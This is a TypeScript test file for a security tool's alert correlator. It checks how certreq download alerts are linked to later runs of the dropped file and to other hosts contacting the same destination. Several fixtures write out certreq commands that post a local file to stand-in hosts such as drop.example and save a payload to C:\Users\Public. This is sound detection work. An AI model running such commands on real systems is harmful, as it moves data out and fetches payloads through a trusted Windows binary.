/**
 * The live extent (serve, worker): certreq alerts followed by later events, batch by batch, the way the ingest
 * path uses the correlator (observe, alertsFor, takeContextUpdates after each batch; begin/confirm/rollback).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator, type ContextUpdate } from '../../src/correlate/index.js';
import type { Alert, RuleMeta } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, CMD, detections, rule, sysmonDns, sysmonNetwork, sysmonStart } from './support/events.js';

type Extent = {
  executed?: { pid?: number; guid?: string; alert_id?: string }[];
  executed_truncated?: true;
  downloaded_by?: { alert_id: string; file?: string; url?: string }[];
  destination?: {
    url_host?: string;
    resolved_ips?: string[];
    hosts?: { host: string; processes: { guid?: string; via: string; reached: string }[]; truncated?: true }[];
    hosts_truncated?: true;
    alerts?: { alert_id: string; same: string }[];
  };
};

const DROPPER = rule('suspicious-binary-in-public', 'medium', 'Binary run from C:\\Users\\Public');
const DOWNLOAD = 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini C:\\Users\\Public\\update.dat';

const isCertreq = (ev: WinEvent): boolean => ev.system.eventId === 1 && String(ev.data['Image']).toLowerCase().endsWith('certreq.exe');
const rulesOf = (ev: WinEvent): RuleMeta[] => (isCertreq(ev) ? [BUILTIN] : String(ev.data['Image']).toLowerCase().includes('\\users\\public\\') ? [DROPPER] : []);

/** One batch as the ingest path runs it; returns its alerts and the updates of earlier ones. */
function batch(c: Correlator, events: WinEvent[], commit: 'confirm' | 'rollback' = 'confirm'): { alerts: Alert[]; updates: ContextUpdate[] } {
  c.begin();
  const alerts: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    const r = rulesOf(ev);
    if (r.length > 0) alerts.push(...c.alertsFor(ev, detections(ev, ...r)));
  }
  const updates = c.takeContextUpdates();
  c[commit]();
  return { alerts, updates };
}

const extentUpdates = (updates: ContextUpdate[]): ContextUpdate[] => updates.filter((u) => u.context.extent !== undefined);

test('serve: the written file runs in a later batch: the stored alert gets executed, critical and the reason; the run alert points back', () => {
  const c = new Correlator();
  const first = batch(c, [sysmonStart({ time: '2026-03-01T10:00:01.000Z', guid: 'g-certreq', pid: 5100, image: CERTREQ, cmd: DOWNLOAD })]);
  const download = first.alerts[0]!;
  assert.equal(download.context?.severity, 'high');
  assert.equal(download.context?.['extent'], undefined, 'nothing to say yet');

  // Unrelated starts change nothing.
  assert.deepEqual(extentUpdates(batch(c, [sysmonStart({ time: '2026-03-01T10:00:02.000Z', guid: 'g-x', pid: 1, image: CMD, cmd: 'cmd' })]).updates), []);

  const second = batch(c, [sysmonStart({ time: '2026-03-01T10:00:05.000Z', guid: 'g-run', pid: 5200, image: 'C:\\USERS\\PUBLIC\\UPDATE.DAT', cmd: 'update.dat' })]);
  const run = second.alerts.find((a) => a.rule.id === DROPPER.id)!;
  assert.ok(run, 'the run raises its own alert');
  const [u, ...more] = extentUpdates(second.updates);
  assert.equal(more.length, 0);
  assert.equal(u!.id, download.id);
  assert.equal(u!.severity, 'critical');
  assert.match(u!.reason ?? '', /downloaded file C:\\Users\\Public\\update\.dat ran at 2026-03-01T10:00:05\.000Z as PID 5200$/);
  const executed = (u!.context.extent as Extent).executed!;
  assert.deepEqual(executed.map((e) => [e.pid, e.guid, e.alert_id]), [[5200, 'g-run', run.id]]);
  // Both ways: the run's alert (made in the same batch) carries the link when it is first stored.
  assert.deepEqual((run.context?.['extent'] as Extent).downloaded_by, [{ alert_id: download.id, file: 'C:\\Users\\Public\\update.dat', url: 'https://drop.example/p' }]);

  // Told once: the next batch has nothing new.
  assert.deepEqual(extentUpdates(batch(c, []).updates), []);
});

test('serve: a rolled-back batch reports its extent update again on retry (nothing announced that was not stored)', () => {
  const c = new Correlator();
  const download = batch(c, [sysmonStart({ time: '2026-03-01T10:00:01.000Z', guid: 'g-certreq', pid: 5100, image: CERTREQ, cmd: DOWNLOAD })]).alerts[0]!;
  const run = sysmonStart({ time: '2026-03-01T10:00:05.000Z', guid: 'g-run', pid: 5200, image: 'C:\\Users\\Public\\update.dat', cmd: 'update.dat' });
  const failed = batch(c, [run], 'rollback');
  assert.equal(extentUpdates(failed.updates)[0]?.id, download.id);
  // The retry: the ingest path re-raises the kept detections without observing the event again.
  c.begin();
  const again = c.alertsFor(run, detections(run, DROPPER));
  const updates = extentUpdates(c.takeContextUpdates());
  c.confirm();
  assert.equal(updates.length, 1, 'the update is reported again');
  assert.equal(updates[0]!.severity, 'critical');
  assert.equal((updates[0]!.context.extent as Extent).executed![0]!.alert_id, again[0]!.id);
  assert.deepEqual((again[0]!.context?.['extent'] as Extent).downloaded_by!.map((d) => d.alert_id), [download.id]);
});

test('serve: other hosts reaching the destination, before and after the alert; resolved addresses; same URL both ways', () => {
  const c = new Correlator();
  // Before the alert: WS02 resolved the name and WS03 connected to the address.
  batch(c, [
    sysmonDns({ host: 'WS02', time: '2026-03-01T09:00:00.000Z', guid: 'g-w2', pid: 200, query: 'drop.example', results: '::ffff:198.51.100.8;' }),
    sysmonNetwork({ host: 'WS03', time: '2026-03-01T09:30:00.000Z', guid: 'g-w3', pid: 300, ip: '198.51.100.8', port: 443 }),
  ]);
  const download = batch(c, [sysmonStart({ time: '2026-03-01T10:00:01.000Z', guid: 'g-certreq', pid: 5100, image: CERTREQ, cmd: DOWNLOAD })]).alerts[0]!;
  const initial = (download.context?.['extent'] as Extent).destination!;
  assert.equal(initial.url_host, 'drop.example');
  assert.deepEqual(initial.resolved_ips, ['198.51.100.8']);
  assert.deepEqual(initial.hosts!.map((h) => [h.host, h.processes[0]!.via, h.processes[0]!.reached]), [['ws02', 'dns', 'drop.example'], ['ws03', 'network', '198.51.100.8']]);

  // After: WS04 connects by name (its own host's traffic, WS01, is never listed); WS05 downloads the same URL.
  const later = batch(c, [
    sysmonNetwork({ host: 'WS04', time: '2026-03-01T11:00:00.000Z', guid: 'g-w4', pid: 400, ip: '203.0.113.9', hostname: 'drop.example', port: 443 }),
    sysmonNetwork({ time: '2026-03-01T11:00:01.000Z', guid: 'g-certreq', pid: 5100, ip: '198.51.100.8', hostname: 'drop.example', port: 443 }),
    sysmonStart({ host: 'WS05', time: '2026-03-01T12:00:00.000Z', guid: 'g-c5', pid: 500, image: CERTREQ, cmd: 'certreq -Post -config https://drop.example/p C:\\Windows\\win.ini' }),
  ]);
  const peer = later.alerts[0]!;
  const u = extentUpdates(later.updates).find((x) => x.id === download.id)!;
  const dest = (u.context.extent as Extent).destination!;
  assert.deepEqual(dest.hosts!.map((h) => h.host), ['ws02', 'ws03', 'ws04']);
  assert.deepEqual(dest.alerts!.map((a) => [a.alert_id, a.same]), [[peer.id, 'url']]);
  assert.equal(u.severity, undefined, 'reaching a destination does not escalate');
  // The new alert lists the earlier one (and the hosts, WS01 included now: it is another host for WS05).
  const peerDest = (peer.context?.['extent'] as Extent).destination!;
  assert.deepEqual(peerDest.alerts!.map((a) => a.alert_id), [download.id]);
  assert.ok(peerDest.hosts!.some((h) => h.host === 'ws01'));
});

test('serve: the live view is bounded: followed alerts and destinations beyond their caps are forgotten and counted', () => {
  const c = new Correlator({ extent: { followed: 2, destinations: 3, destinationEntries: 100 } });
  for (let i = 0; i < 5; i++) {
    batch(c, [sysmonNetwork({ host: `H${i}`, time: `2026-03-01T09:00:0${i}.000Z`, guid: `g-n${i}`, pid: 10 + i, ip: `192.0.2.${i}`, hostname: `d${i}.example`, port: 443 })]);
  }
  let stats = c.extentStats()!;
  assert.equal(stats.destinations, 3);
  assert.equal(stats.destinationsEvicted, 7, '10 names and addresses, 3 kept');
  for (let i = 0; i < 4; i++) {
    batch(c, [sysmonStart({ time: `2026-03-01T10:00:0${i}.000Z`, guid: `g-c${i}`, pid: 100 + i, image: CERTREQ, cmd: `certreq -Post -config https://x${i}.example/ C:\\Windows\\win.ini C:\\Users\\Public\\f${i}.dat` })]);
  }
  stats = c.extentStats()!;
  assert.equal(stats.followed, 2);
  assert.equal(stats.followedEvicted, 2);
  // The oldest download's file runs: it is no longer followed, so nothing is reported; the newest is.
  const runs = batch(c, [0, 3].map((i) => sysmonStart({ time: `2026-03-01T10:01:0${i}.000Z`, guid: `g-r${i}`, pid: 200 + i, image: `C:\\Users\\Public\\f${i}.dat`, cmd: `f${i}.dat` })));
  assert.equal(extentUpdates(runs.updates).length, 1);
  assert.equal(extentUpdates(runs.updates)[0]!.severity, 'critical');
});

test('scan mode (watchCapacity 0) keeps no live extent: finalize computes it', () => {
  const c = new Correlator({ watchCapacity: 0 });
  assert.equal(c.extentStats(), undefined);
});

test('the caps come from the correlation file (extent:), with errors naming the key', () => {
  const c = new Correlator({ config: { extent: { followed: 1, destination_entries: 50 } } });
  for (let i = 0; i < 3; i++) {
    batch(c, [sysmonStart({ time: `2026-03-01T10:00:0${i}.000Z`, guid: `g-c${i}`, pid: 100 + i, image: CERTREQ, cmd: `certreq -Post -config https://x${i}.example/ C:\\Windows\\win.ini C:\\Users\\Public\\f${i}.dat` })]);
  }
  assert.deepEqual([c.extentStats()!.followed, c.extentStats()!.followedEvicted], [1, 2]);
  assert.throws(() => new Correlator({ config: { extent: { follow: 3 } as never } }), /extent\.follow: unknown key \(expected followed, destinations, destination_entries, resolved\)/);
  assert.throws(() => new Correlator({ config: { extent: { resolved: 0 } } }), /extent\.resolved: expected a positive integer/);
});
